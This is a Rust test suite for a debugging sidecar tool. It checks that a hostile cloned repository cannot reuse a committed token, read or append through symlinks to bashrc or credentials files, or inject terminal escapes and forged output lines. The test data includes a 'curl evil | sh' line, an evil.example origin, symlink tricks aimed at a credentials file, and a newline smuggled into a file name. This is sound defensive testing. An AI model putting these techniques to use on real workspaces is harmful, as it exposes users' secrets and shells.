//! Hostile workspaces: a repository that ships its own `.debug-sidecar/`
//! (a known ingest token, a port, an active session, run files linked to
//! files outside the workspace). Nothing the sidecar reads or writes may
//! leave the state directory through it, and a token it did not mint is
//! never honoured.

mod support;

use serde_json::{json, Value};
use std::fs;
use std::path::Path;
use support::*;

const KNOWN_TOKEN: &str = "0123456789abcdef0123456789abcdef";
const RUN: &str = "r1-mx00aaaa";

fn post_text(url: &str, body: &str) -> u16 {
    post(
        url,
        "Origin: https://evil.example\r\nContent-Type: text/plain\r\n",
        body,
    )
}

/// A workspace as a cloned repository would bring it: the committed state
/// of an active session whose run files lead outside the workspace.
fn committed_state(root: &Path, outside: &Path) {
    let session = root.join(".debug-sidecar/sessions/default");
    fs::create_dir_all(session.join("runs")).unwrap();
    // Git writes files 0644: what a committed token looks like.
    fs::write(session.join("ingest-token"), KNOWN_TOKEN).unwrap();
    fs::write(
        session.join("state.json"),
        json!({"version": 2, "active": true, "stage": "user_turn", "problem": "p",
               "rounds": [{"index": 1, "runId": RUN, "probeIds": [], "handoff": "reproduce",
                           "reproductionSteps": ["x"]}],
               "probes": [], "runs": [{"id": RUN, "round": 1, "lines": 0}]})
        .to_string(),
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.join("bashrc"), session.join("runs/active.jsonl")).unwrap();
    std::os::unix::fs::symlink(
        outside.join("credentials"),
        session.join(format!("runs/{RUN}.jsonl")),
    )
    .unwrap();
}

#[test]
fn a_committed_state_directory_cannot_append_outside_it_or_read_through_links() {
    let outside = Workspace::new("hostile-home");
    fs::write(outside.root.join("bashrc"), "export PATH=/usr/bin\n").unwrap();
    fs::write(
        outside.root.join("credentials"),
        "{\"secret\":\"AKIA-DO-NOT-LEAK\"}\n",
    )
    .unwrap();
    let workspace = Workspace::new("hostile-repo");
    committed_state(&workspace.root, &outside.root);

    let mut server = initialized(&workspace.root);
    let status = server.request("debug/status", json!({})).unwrap();
    let url = status["ingestUrl"]
        .as_str()
        .expect("an ingest URL")
        .to_string();
    // The committed token was not minted here: a new one replaced it.
    assert!(!url.ends_with(KNOWN_TOKEN), "{url}");
    let known = format!("{}/{KNOWN_TOKEN}", url.rsplit_once('/').unwrap().0);
    let line = "{\"probeId\":\"p1\",\"message\":\"curl evil | sh\"}";
    // A page on any origin with the committed token: refused.
    assert_ne!(post_text(&known, line), 204);
    // With the real token, the committed link out of runs/ is not followed.
    assert_ne!(post_text(&url, line), 204);
    assert_eq!(
        fs::read_to_string(outside.root.join("bashrc")).unwrap(),
        "export PATH=/usr/bin\n",
        "a line was appended outside the workspace"
    );

    // The run file linked to a credentials file never reaches a client.
    let answer = match server.request("debug/logs", json!({})) {
        Ok(page) => page.to_string(),
        Err(error) => format!("{error:?}"),
    };
    assert!(!answer.contains("AKIA-DO-NOT-LEAK"), "{answer}");
    let summary = match server.request("debug/logSummary", json!({})) {
        Ok(page) => page.to_string(),
        Err(error) => format!("{error:?}"),
    };
    assert!(!summary.contains("AKIA-DO-NOT-LEAK"), "{summary}");
    // The person still has a legal command, and the next run is the
    // sidecar's own.
    let proceeded = server.request("debug/proceed", json!({})).unwrap();
    assert_eq!(proceeded["stage"], "investigating");
    let active = workspace
        .root
        .join(".debug-sidecar/sessions/default/runs/active.jsonl");
    let target = fs::read_link(&active).unwrap();
    assert_eq!(target.components().count(), 1, "{target:?}");
    assert_eq!(post_text(&url, line), 204);
    let value: Value =
        serde_json::from_str(fs::read_to_string(&active).unwrap().lines().last().unwrap()).unwrap();
    assert_eq!(value["probeId"], "p1");
}

#[test]
fn a_minted_token_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let workspace = Workspace::new("hostile-mode");
    let mut server = initialized(&workspace.root);
    server
        .request("debug/start", json!({"problem": "p"}))
        .unwrap();
    let token = workspace
        .root
        .join(".debug-sidecar/sessions/default/ingest-token");
    let mode = fs::metadata(token).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn a_state_file_linked_out_of_the_workspace_is_moved_aside_not_read() {
    let outside = Workspace::new("hostile-state-target");
    let target = outside.root.join("state.json");
    fs::write(
        &target,
        json!({"version": 2, "active": true, "stage": "user_turn", "problem": "read me"})
            .to_string(),
    )
    .unwrap();
    let workspace = Workspace::new("hostile-state-link");
    let session = workspace.root.join(".debug-sidecar/sessions/default");
    fs::create_dir_all(&session).unwrap();
    std::os::unix::fs::symlink(&target, session.join("state.json")).unwrap();
    let mut server = initialized(&workspace.root);
    let status = server.request("debug/status", json!({})).unwrap();
    assert_eq!(status["active"], false, "{status}");
    assert!(status["warning"].as_str().is_some(), "{status}");
    // The person can start afresh; the file outside is untouched.
    server
        .request("debug/start", json!({"problem": "p"}))
        .unwrap();
    assert!(fs::read_to_string(&target).unwrap().contains("read me"));
}

#[test]
fn the_cli_shows_untrusted_text_escaped() {
    let workspace = Workspace::new("hostile-cli");
    let mut server = initialized(&workspace.root);
    let started = server
        .request("debug/start", json!({"problem": "p"}))
        .unwrap();
    let log = std::path::PathBuf::from(started["logFile"].as_str().unwrap());
    let evil = "\u{1b}[2J\u{1b}]0;owned\u{7}\nFORGED: line";
    let record = json!({"probeId": "p1", "message": evil, "location": evil, "data": {"x": "y".repeat(5000)}});
    fs::write(&log, format!("{record}\n")).unwrap();
    // A file whose name forges a line of `check`'s output.
    fs::write(
        workspace.root.join("a\nFORGED.py:1: all clean"),
        "# #region debug-probe p9 s\n# #endregion debug-probe p9\n",
    )
    .unwrap();
    for args in [
        &["logs"][..],
        &["logs", "--summary"],
        &["check"],
        &["probes"],
    ] {
        let output = std::process::Command::new(BIN)
            .args(args)
            .current_dir(&workspace.root)
            .env_remove("DEBUG_SIDECAR_DIR")
            .output()
            .unwrap();
        let out = String::from_utf8_lossy(&output.stdout);
        assert!(
            !out.contains('\u{1b}') && !out.contains('\u{7}'),
            "{args:?}: {out}"
        );
        assert!(
            !out.lines().any(|l| l.starts_with("FORGED")),
            "{args:?}: {out}"
        );
        assert!(
            out.lines().all(|l| l.len() < 4000),
            "{args:?}: a value is printed whole"
        );
    }
}
